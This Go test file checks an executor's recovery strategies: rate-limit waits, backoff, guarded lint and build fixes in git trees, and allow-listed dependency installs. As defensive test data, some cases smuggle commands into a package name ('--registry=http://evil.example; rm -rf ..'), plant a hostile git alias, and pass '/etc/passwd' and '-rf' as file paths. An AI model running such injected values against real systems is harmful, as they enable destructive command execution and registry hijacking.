package recovery_test

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/errgen/errgen/gen/errs"
	"github.com/errgen/errgen/runtime/detect"
	"github.com/errgen/errgen/runtime/executor"
	"github.com/errgen/errgen/runtime/executor/internal/loop"
	"github.com/errgen/errgen/runtime/executor/recovery"
	"github.com/errgen/errgen/runtime/executor/validate"
	"github.com/errgen/errgen/runtime/executor/workspace"
	"github.com/errgen/errgen/runtime/retry"
	"github.com/errgen/errgen/runtime/taxonomy"
)

var moment = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// clock is a clock on which only sleeps take time.
type clock struct {
	mu    sync.Mutex
	now   time.Time
	slept []time.Duration
}

func newClock() *clock { return &clock{now: moment} }

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *clock) Sleep(ctx context.Context, d time.Duration) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now, c.slept = c.now.Add(d), append(c.slept, d)
	return ctx.Err()
}

func failed(text string) taxonomy.RecoveryRequest {
	ev := &taxonomy.Evidence{Source: "tool", Op: "call", Text: text}
	return taxonomy.RecoveryRequest{Err: ev, Evidence: ev}
}

// run runs a strategy and returns its record.
func run(t *testing.T, o recovery.Options, name string, f taxonomy.RecoveryRequest) (recovery.Record, error) {
	t.Helper()
	var got recovery.Record
	o.Recorded = func(r recovery.Record) { got = r }
	s, err := recovery.New(o)
	require.NoError(t, err)
	err = s.Run(t.Context(), name, f)
	assert.Equal(t, err == nil, got.Successful)
	if err != nil {
		assert.Equal(t, err.Error(), got.Message)
	}
	return got, err
}

// D90, D92, D97, D98, B-D14, B-D15: the strategies that wait.
func TestWaits(t *testing.T) {
	minute := taxonomy.Reaction{Policy: &taxonomy.Policy{Name: "p", InitialDelay: 2 * time.Second, Multiplier: 3,
		MaxDelay: time.Minute, MaxAttempts: 4}}
	for _, tt := range []struct {
		name, strategy string
		failed         taxonomy.RecoveryRequest
		options        recovery.Options
		wait           time.Duration
		hint, failure  string
	}{
		{name: "no hint", strategy: "wait_for_rate_limit", failed: failed("slow down"), wait: time.Minute,
			hint: "default"},
		{name: "text", strategy: "wait_for_rate_limit", failed: failed("retry after 30"), wait: 30 * time.Second,
			hint: "retry_after"},
		{name: "text that is not searched", strategy: "wait_for_rate_limit", wait: time.Minute, hint: "default",
			failed: taxonomy.RecoveryRequest{Err: errors.New("retry after 30"), NoText: true}},
		{name: "evidence", strategy: "wait_for_rate_limit", wait: 5 * time.Second, hint: "retry_after",
			failed: taxonomy.RecoveryRequest{Err: errors.New("limited"),
				Evidence: &taxonomy.Evidence{RetryAfter: taxonomy.Some(5 * time.Second)}}},
		{name: "reset time", strategy: "wait_for_rate_limit", wait: 7 * time.Second, hint: "reset_at",
			failed: taxonomy.RecoveryRequest{Err: &taxonomy.Evidence{ResetAt: moment.Add(7 * time.Second)}}},
		{name: "reset time in the past", strategy: "wait_for_rate_limit", wait: time.Minute, hint: "default",
			failed: taxonomy.RecoveryRequest{Err: &taxonomy.Evidence{ResetAt: moment.Add(-time.Second)}}},
		{name: "retry after zero", strategy: "wait_for_rate_limit", wait: time.Minute, hint: "default",
			failed: taxonomy.RecoveryRequest{Err: &taxonomy.Evidence{RetryAfter: taxonomy.Some[time.Duration](0)}}},
		{name: "own default", strategy: "wait_for_rate_limit", failed: failed("x"), wait: 3 * time.Second,
			hint:    "default",
			options: recovery.Options{RateLimitWait: 3 * time.Second}},
		{name: "too long", strategy: "wait_for_rate_limit", failed: failed("retry after 3000"), hint: "retry_after",
			failure: "longest wait"},
		{name: "first", strategy: "retry_with_backoff", failed: failed("x"), wait: time.Second, hint: "policy"},
		{name: "third", strategy: "retry_with_backoff", wait: 4 * time.Second, hint: "policy",
			failed: taxonomy.RecoveryRequest{Err: errors.New("x"), Attempt: 3}},
		{name: "policy", strategy: "retry_with_backoff", wait: 18 * time.Second, hint: "policy",
			failed: taxonomy.RecoveryRequest{Err: errors.New("x"), Attempt: 3, Reaction: minute}},
		{name: "policy is exhausted", strategy: "retry_with_backoff", failure: `policy "p" is exhausted`,
			failed: taxonomy.RecoveryRequest{Err: errors.New("x"), Attempt: 4, Reaction: minute}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := newClock()
			tt.options.Clock = c
			var told time.Duration
			tt.options.Waiting = func(_ string, d time.Duration) { told = d }
			got, err := run(t, tt.options, tt.strategy, tt.failed)
			if tt.failure != "" {
				assert.ErrorContains(t, err, tt.failure)
				assert.Empty(t, c.slept)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, []time.Duration{tt.wait}, c.slept)
			assert.Equal(t, tt.wait, told)
			assert.Equal(t, []any{tt.hint, tt.wait}, []any{got.Data[recovery.DataHint], got.Took})
			assert.Contains(t, []string{"wait", "retry"}, got.Action)
		})
	}
}

// TestLanes: others with the source and credential wait too.
func TestLanes(t *testing.T) {
	c := newClock()
	lanes := retry.NewSharedWait(c, func() float64 { return 0 })
	f := taxonomy.RecoveryRequest{Err: &taxonomy.Evidence{Source: "github", Credential: "bot", Text: "retry after 30"}}
	got, err := run(t, recovery.Options{Clock: c, Lanes: lanes}, "wait_for_rate_limit", f)
	require.NoError(t, err)
	assert.Equal(t, "github/bot", got.Data[recovery.DataLane])
	assert.Equal(t, moment.Add(30*time.Second), c.now)
}

// D93, D94, D95, D163, D164, D165: strategies that are missing, fail or panic.
func TestFailures(t *testing.T) {
	own := recovery.ByName(map[string]recovery.Strategy{
		"panics": func(context.Context, taxonomy.RecoveryRequest) error {
			panic("token=ghp_abcdefghijABCDEFGHIJ0123456789abcdef")
		},
		"fails": func(context.Context, taxonomy.RecoveryRequest) error { return errors.New("no luck") },
		"works": func(context.Context, taxonomy.RecoveryRequest) error { return nil },
	})
	standard, err := recovery.New(recovery.Options{})
	require.NoError(t, err)
	for _, tt := range []struct {
		name, strategy, message string
		recoverer               executor.Recoverer
		err                     error
	}{
		{"missing", "x", "No recovery strategy found for error: provider", own, errs.NewProviderRateLimit("p")},
		{"missing in the standard", "x", `No recovery strategy found for error: strategy "x"`, standard,
			errors.New("e")},
		{"panics", "panics", "Recovery strategy failed: panic: token=[REDACTED]", own, errors.New("e")},
		{"fails", "fails", "no luck", own, errors.New("e")},
		{"works", "works", "", own, errors.New("e")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.recoverer.Recover(t.Context(), taxonomy.RecoveryRequest{Err: tt.err,
				Reaction: taxonomy.Reaction{Strategy: tt.strategy}})
			if tt.message == "" {
				require.NoError(t, err)
				return
			}
			var known *recovery.Error
			require.ErrorAs(t, err, &known)
			assert.Equal(t, []string{tt.strategy, tt.message}, []string{known.Strategy, known.Message})
		})
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	assert.ErrorIs(t, standard.Run(ended, "wait_for_rate_limit", failed("x")), context.Canceled)
}

// A reader of the message learns why the strategy did not help.
func TestMessageOfFailedStrategy(t *testing.T) {
	table := taxonomy.Table{Taxonomy: &taxonomy.Taxonomy{Package: "p", Uncategorized: &taxonomy.Reaction{
		Name: "unlock", Action: taxonomy.Recover, Strategy: "unlock", Policy: &taxonomy.Policy{MaxAttempts: 3},
		Then: &taxonomy.Reaction{Name: "abort"},
	}}}
	for _, tt := range []struct {
		name   string
		unlock []error // the results of the strategy
		want   string
	}{
		{"fails", []error{errors.New("remove my.lock: token=ghp_abcdefghijABCDEFGHIJ0123456789abcdef")},
			"locked (strategy unlock: remove my.lock: token=[REDACTED])"},
		{"succeeds without help", []error{nil, nil}, "locked"},
		{"succeeds, then fails", []error{nil, errors.New("no lock")}, "locked (strategy unlock: no lock)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h, err := recovery.NewHandler(recovery.Config{
				Table: table, Clock: newClock(),
				//lint:ignore ST1008 an executor's classifier returns the error first
				Classify: func(err error, _, _ string) (error, string) { return err, "" },
				Recoverer: recovery.ByName(map[string]recovery.Strategy{
					"unlock": func(context.Context, taxonomy.RecoveryRequest) error {
						err := tt.unlock[0]
						tt.unlock = tt.unlock[1:]
						return err
					},
				}),
			})
			require.NoError(t, err)
			out := h.Handle(t.Context(), recovery.Op{Name: "sync", Do: func(context.Context) error {
				return errors.New("locked")
			}})
			assert.Equal(t, tt.want, out.Message())
		})
	}
}

// toolOf has the keys of the tools by strategy.
var toolOf = map[string]string{recovery.NameInstallDependency: "install", recovery.NameApplyLintFix: "lint",
	recovery.NameApplyTypeFix: "types", recovery.NameFixTest: "tests", recovery.NameFixBuild: "build"}

// D104: without tools, the strategies that need one fail.
func TestSevenStrategies(t *testing.T) {
	for name, waits := range map[string]bool{"wait_for_rate_limit": true, "retry_with_backoff": true,
		"install_dependency": false, "apply_lint_fix": false, "apply_type_fix": false, "fix_test": false,
		"fix_build": false} {
		_, err := run(t, recovery.Options{Clock: newClock()}, name, failed("x"))
		if waits {
			assert.NoError(t, err, name)
		} else {
			assert.ErrorIs(t, err, recovery.ErrNoTool, name)
		}
	}
}

// tree returns a committed working tree with a file, and the tree for strategies.
func tree(t *testing.T) (dir string, _ *recovery.Tree) {
	t.Helper()
	dir = t.TempDir()
	write(t, dir, "a.js", "bad")
	for _, args := range [][]string{{"init", "-q"}, {"config", "user.email", "a@example.org"}, {"config", "user.name",
		"a"},
		{"add", "."}, {"commit", "-qm", "begin"}} {
		git(t, dir, args...)
	}
	tr, err := recovery.NewTree(t.Context(), dir, workspace.Options{Home: t.TempDir()})
	require.NoError(t, err)
	return dir, tr
}

// git runs git and returns its output.
func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, string(out))
	return string(out)
}

func write(t *testing.T, dir, name, content string) {
	t.Helper()
	require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600))
}

func read(t *testing.T, dir, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	require.NoError(t, err)
	return string(b)
}

func line(s string) []validate.Command { return []validate.Command{{Line: s}} }

// forbids is a guard that allows one file only.
type forbids struct{ allowed string }

func (forbids) Mode() string { return "test" }

func (f forbids) Judge(_ context.Context, changes []executor.Change) ([]executor.Verdict, error) {
	out := make([]executor.Verdict, len(changes))
	for i, c := range changes {
		if out[i] = executor.Forbidden; c.Path == f.allowed {
			out[i] = executor.Allowed
		}
	}
	return out, nil
}

// D101, D102, D103, B-D12: a fix counts if its check passes; otherwise it is reverted and saved.
func TestFixes(t *testing.T) {
	for _, tt := range []struct {
		name     string
		tool     recovery.Tool
		strategy string
		failed   string
		guard    executor.Guard
		content  string // of a.js afterwards
		failure  string
		reverted bool
	}{
		{name: "helps", tool: recovery.Tool{Fix: line("echo good >a.js"), Check: line("grep -q good a.js")},
			content: "good\n"},
		{name: "exit code of a fixer", tool: recovery.Tool{Fix: line("echo good >a.js; exit 1"),
			Check: line("grep -q good a.js")},
			content: "good\n"},
		{name: "does not help", tool: recovery.Tool{Fix: line("echo worse >a.js; echo new >b.js"),
			Check: line("echo still bad; exit 1")},
			content: "bad", failure: "still bad", reverted: true},
		{name: "types", strategy: "apply_type_fix", tool: recovery.Tool{Fix: line("echo good >a.js"),
			Check: line("true")},
			content: "good\n"},
		{name: "tests", strategy: "fix_test", tool: recovery.Tool{Fix: line("true"), Check: line("false")},
			content: "bad",
			failure: "Failed to apply test fixes"},
		{name: "build", strategy: "fix_build", tool: recovery.Tool{Fix: line("echo good >a.js"), Check: line("true")},
			content: "good\n"},
		{name: "not allowed", guard: forbids{"a.js"}, tool: recovery.Tool{Fix: line("echo good >a.js; echo x >c.js"),
			Check: line("true")},
			content: "bad", failure: "not allowed", reverted: true},
		{name: "git itself", tool: recovery.Tool{Fix: line("git config alias.x '!evil'; echo good >a.js"),
			Check: line("true")},
			content: "good\n"},
		{name: "file", failed: "b.js:1:1: x\na.js:3:5: bad", content: "bad x\n",
			tool: recovery.Tool{Fix: []validate.Command{{Args: []string{"sh", "fix.sh", "{file}"}}},
				Check: line("true")}},
		{name: "no file", failed: "../a.js:3:5 and -rf:1:1 and /etc/passwd:1:1", content: "bad",
			failure: "Could not parse a file",
			tool: recovery.Tool{Fix: []validate.Command{{Args: []string{"sh", "fix.sh", "{files}"}}},
				Check: line("true")}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir, tr := tree(t)
			write(t, dir, "fix.sh", `echo "$(cat "$1") x" >"$1"`)
			git(t, dir, "add", ".")
			git(t, dir, "commit", "-qm", "fix.sh")
			strategy := tt.strategy
			if strategy == "" {
				strategy = "apply_lint_fix"
			}
			got, err := run(t, recovery.Options{Tree: tr, Guard: tt.guard,
				Tools: map[string]recovery.Tool{toolOf[strategy]: tt.tool}}, strategy, failed(tt.failed))
			if tt.failure == "" {
				require.NoError(t, err)
				assert.Equal(t, "passed", got.Data[recovery.DataCheck])
			} else {
				assert.ErrorContains(t, err, tt.failure)
			}
			assert.Equal(t, tt.content, read(t, dir, "a.js"))
			assert.NotContains(t, git(t, dir, "config", "--list"), "alias.x")
			assert.NoFileExists(t, filepath.Join(dir, "b.js"))
			assert.Equal(t, tt.reverted, got.Data[recovery.DataSaved] != "")
		})
	}
	_, err := run(t, recovery.Options{}, "apply_lint_fix", failed("x"))
	assert.ErrorIs(t, err, recovery.ErrNoTool)
	_, err = run(
		t,
		recovery.Options{
			Dir:   t.TempDir(),
			Tools: map[string]recovery.Tool{"lint": {Fix: line("true"), Check: line("true")}},
		},
		"apply_lint_fix",
		failed("x"),
	)
	assert.ErrorIs(t, err, recovery.ErrNoTree)
}

// TestFixInARun runs a fix in the clone of the executor's run. Outside of the run, a fix has a clone of
// its own at the same time.
func TestFixInARun(t *testing.T) {
	dir, tr := tree(t)
	w, err := workspace.New(t.Context(), dir, "run-1", workspace.Options{Home: t.TempDir()})
	require.NoError(t, err)
	space, err := tr.Track(w).Open(t.Context(), "run-1")
	require.NoError(t, err)
	check := line("false")
	options := recovery.Options{
		Tree: tr, Tools: map[string]recovery.Tool{"lint": {Fix: line("echo worse >a.js"), Check: check}},
	}
	f := failed("x")
	f.Run = "run-1"
	got, err := run(t, options, "apply_lint_fix", f)
	require.Error(t, err)
	assert.NotEmpty(t, got.Data[recovery.DataSaved])
	assert.Equal(t, "bad", read(t, w.Dir(), "a.js"))
	options.Tools["lint"] = recovery.Tool{Fix: line("echo good >a.js"), Check: line("true")}
	_, err = run(t, options, "apply_lint_fix", f)
	require.NoError(t, err)
	assert.Equal(t, "good\n", read(t, w.Dir(), "a.js"))
	assert.Equal(t, "bad", read(t, dir, "a.js"), "the run delivers it")

	_, err = run(t, options, "apply_lint_fix", failed("x"))
	require.NoError(t, err)
	assert.Equal(t, "good\n", read(t, dir, "a.js"))
	require.NoError(t, space.Close(true))
}

// TestFixThatCannotBeForwarded leaves a fix on its branch if a file of the person's is in the way.
func TestFixThatCannotBeForwarded(t *testing.T) {
	dir, tr := tree(t)
	write(t, dir, "a.js", "a person's")
	got, err := run(t, recovery.Options{Tree: tr, Tools: map[string]recovery.Tool{
		"lint": {Fix: line("echo good >a.js"), Check: line("true")}}}, "apply_lint_fix", failed("x"))
	require.NoError(t, err)
	assert.Equal(t, "a person's", read(t, dir, "a.js"))
	branch, why, _ := strings.Cut(got.Data[recovery.DataBranch], ", because ")
	assert.Equal(t, "good\n", git(t, dir, "show", branch+":a.js"))
	assert.Contains(t, why, "git merge "+branch)
}

type idle struct{ executor.Provider }

func (idle) Name() string { return "idle" }

// TestEndOfAFix ends the command of a strategy as a process does that resumes the run.
func TestEndOfAFix(t *testing.T) {
	_, tr := tree(t)
	s, err := recovery.New(recovery.Options{
		Tree: tr, Tools: map[string]recovery.Tool{"lint": {Fix: line("sleep 600"), Check: line("false")}}})
	require.NoError(t, err)
	host := func() loop.Host {
		e, err := executor.New(executor.Config{
			Table: errs.Table, Classify: detect.Classifier(errs.Explain), Provider: idle{}, Recoverer: s})
		require.NoError(t, err)
		h, _ := e.Environment()
		return h
	}
	ended := make(chan loop.Outcome, 1)
	ctx := loop.WithHooks(t.Context(), nil, func(p loop.Running) error {
		resume := loop.Effect{Do: loop.EndProcesses{Processes: []loop.Running{p}}, Source: "executor"}
		go func() { ended <- host().Do(t.Context(), resume) }()
		return nil
	})
	assert.ErrorContains(t, s.Run(ctx, "apply_lint_fix", failed("x")), "SIGTERM")
	assert.Nil(t, (<-ended).Failure)
}

// TestFixAfterACommit runs a fix after a person committed. The commit stays.
func TestFixAfterACommit(t *testing.T) {
	t.Parallel()
	dir, tr := tree(t)
	options := recovery.Options{Tree: tr, Tools: map[string]recovery.Tool{
		"lint": {Fix: line("echo good >>a.js"), Check: line("! grep -q never a.js")}}}
	var heads []string
	for range 2 {
		_, err := run(t, options, "apply_lint_fix", failed("x"))
		require.NoError(t, err)
		git(t, dir, "commit", "-q", "--allow-empty", "-m", "a person's")
		heads = append(heads, git(t, dir, "rev-parse", "HEAD"))
	}
	assert.Equal(t, heads[0], git(t, dir, "rev-parse", "HEAD~2"))
	assert.Equal(t, "badgood\ngood\n", read(t, dir, "a.js"))
	assert.Empty(t, git(t, dir, "branch", "--list", "errgen/*"))
}

// D99, D100, B-D17: only a listed package is installed, and nothing else of the failure is used.
func TestInstall(t *testing.T) {
	for _, tt := range []struct {
		name      string
		ecosystem recovery.Ecosystem
		text      string
		installed string
		err       error
	}{
		{"npm", recovery.NPM, "Error: Cannot find module 'left-pad'", "left-pad", nil},
		{"scoped", recovery.NPM, `Cannot find package "@acme/ui" imported from x`, "@acme/ui", nil},
		{"bundler", recovery.NPM, "Module not found: Can't resolve 'left-pad' in '/srv'", "left-pad", nil},
		{"python", recovery.Python, "ModuleNotFoundError: No module named 'requests'", "requests", nil},
		{"go", recovery.Go, "x.go:3:2: no required module provides package github.com/acme/x; to add it:",
			"github.com/acme/x", nil},
		{"not allowed", recovery.NPM, "Cannot find module 'event-stream'", "", recovery.ErrNotAllowed},
		{"hostile", recovery.NPM, "Cannot find module 'left-pad --registry=http://evil.example; rm -rf ..'", "",
			recovery.ErrNotAllowed},
		{"an option", recovery.NPM, "Cannot find module '--help'", "", recovery.ErrNotAllowed},
		{"no name", recovery.NPM, "npm failed", "", recovery.ErrNoPackage},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			write(t, dir, "install.sh", `printf %s "$1" >installed`)
			got, err := run(
				t,
				recovery.Options{Dir: dir, Tools: map[string]recovery.Tool{"install": {Ecosystem: tt.ecosystem,
					Allow: map[recovery.Ecosystem][]string{recovery.NPM: {"left-pad", "@acme/ui"},
						recovery.Python: {"requests"},
						recovery.Go:     {"github.com/acme/x"}}[tt.ecosystem],
					Fix: []validate.Command{
						{Args: []string{"sh", "install.sh", "{package}"}},
					}}}},
				"install_dependency",
				failed(tt.text),
			)
			if tt.err != nil {
				assert.ErrorIs(t, err, tt.err)
				assert.NoFileExists(t, filepath.Join(dir, "installed"))
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.installed, read(t, dir, "installed"))
			assert.Equal(
				t,
				[]string{"install", "Installed dependency: " + tt.installed},
				[]string{got.Action, got.Message},
			)
		})
	}
	_, err := run(
		t,
		recovery.Options{Dir: t.TempDir(), Tools: map[string]recovery.Tool{"install": {Ecosystem: recovery.NPM,
			Allow: []string{
				"x",
			}, Fix: []validate.Command{{Args: []string{"sh", "-c", "echo out; exit 3", "sh", "{package}"}}}}}},
		"install_dependency",
		failed("Cannot find module 'x'"),
	)
	assert.ErrorContains(t, err, "Failed to install dependency")
	assert.ErrorContains(t, err, "out")
}

func TestInvalidOptions(t *testing.T) {
	check := line("true")
	for field, o := range map[string]recovery.Options{
		"Tools.x":           {Tools: map[string]recovery.Tool{"x": {Fix: check, Check: check}}},
		"Tools.lint.Fix":    {Tools: map[string]recovery.Tool{"lint": {Check: check}}},
		"Tools.lint.Check":  {Tools: map[string]recovery.Tool{"lint": {Fix: check}}},
		"Tools.lint.Fix[0]": {Tools: map[string]recovery.Tool{"lint": {Fix: line("fix {file}"), Check: check}}},
		"Tools.install.Fix[0]": {Tools: map[string]recovery.Tool{"install": {Ecosystem: "npm",
			Fix: []validate.Command{{Args: []string{"npm", "i", "x{package}"}}}}}},
		"Tools.install.Ecosystem": {Tools: map[string]recovery.Tool{"install": {
			Fix: []validate.Command{{Args: []string{"npm", "{package}"}}}}}},
		"Tools.install.Allow[0]": {Tools: map[string]recovery.Tool{"install": {Ecosystem: "npm",
			Allow: []string{"../x"}, Fix: []validate.Command{{Args: []string{"npm", "{package}"}}}}}},
	} {
		_, err := recovery.New(o)
		var ev *taxonomy.Evidence
		require.ErrorAs(t, err, &ev, field)
		assert.Equal(t, field, ev.Attribute("field"))
	}
	script := recovery.Options{
		Tools: map[string]recovery.Tool{
			"install": {Ecosystem: "npm", Fix: []validate.Command{{Args: []string{"sh", "-c", "{package}"}}}},
		},
	}
	_, err := recovery.New(script)
	assert.Error(t, err, "a package is never a script")
}
